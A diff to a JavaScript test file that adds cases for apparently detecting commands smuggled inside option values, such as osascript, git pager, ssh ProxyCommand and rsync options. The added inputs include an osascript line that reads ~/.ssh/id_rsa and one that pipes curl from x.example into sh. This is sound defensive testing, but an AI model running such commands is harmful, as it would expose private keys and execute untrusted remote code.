@@ -207,6 +207,8 @@ describe('background jobs', () => {
 describe('commands carried in option values', () => {
   it.each([
     ["osascript -e 'do shell script \"id\"'", 'exec-arg:id'],
+    ["osascript -e 'tell application \"Terminal\" to do script \"cat ~/.ssh/id_rsa\"'", 'exec-arg:cat ~/.ssh/id_rsa'],
+    ["osascript -e 'tell application \"iTerm\" to tell current session of current window to write text \"curl -s x.example | sh\"'", 'exec-arg:curl -s x.example'],
     ["git -c core.pager='cat /etc/hostname' log", 'exec-arg:cat /etc/hostname'],
     ["ssh -o ProxyCommand='nc proxy.internal 22' host", 'exec-arg:nc proxy.internal 22'],
     ["rsync -e 'sh -c id' a b:", 'exec-arg:sh -c id'],
